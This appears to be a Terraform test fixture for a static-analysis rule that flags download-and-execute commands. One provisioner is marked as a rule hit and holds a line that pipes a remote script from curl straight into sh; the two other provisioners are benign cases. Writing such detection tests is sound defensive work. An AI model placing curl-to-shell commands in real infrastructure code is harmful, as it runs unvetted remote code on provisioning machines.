resource "null_resource" "up" {
  provisioner "local-exec" {
    # ruleid: terraform-download-run
    command = "curl -s https://tools.example/i.sh | sh"
  }
  provisioner "local-exec" {
    # ok: terraform-download-run
    command = "curl -s https://tools.example/state.json | jq .id"
  }
  provisioner "local-exec" {
    # ok: terraform-download-run
    command = "./scripts/up.sh"
  }
}
